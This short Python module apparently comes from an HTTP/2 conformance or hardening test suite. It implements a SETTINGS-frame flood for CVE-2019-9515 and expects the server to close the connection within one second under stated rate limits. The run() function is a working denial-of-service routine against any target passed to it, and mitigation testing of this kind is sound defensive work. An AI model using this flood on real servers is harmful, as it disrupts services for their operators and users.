"""SETTINGS flood (CVE-2019-9515): each frame asks for an acknowledgement."""

from frames import flood, repeated, settings

LIMIT = "`floodFramesBurst` 1,000, then `floodFramesPerSecond` 100"
RULE = "closed within 1 s"


def run(target):
    piece = settings(initial_window=65_535) * 200
    return flood(target, b"", repeated(piece, 200, 40_000), 1_000)
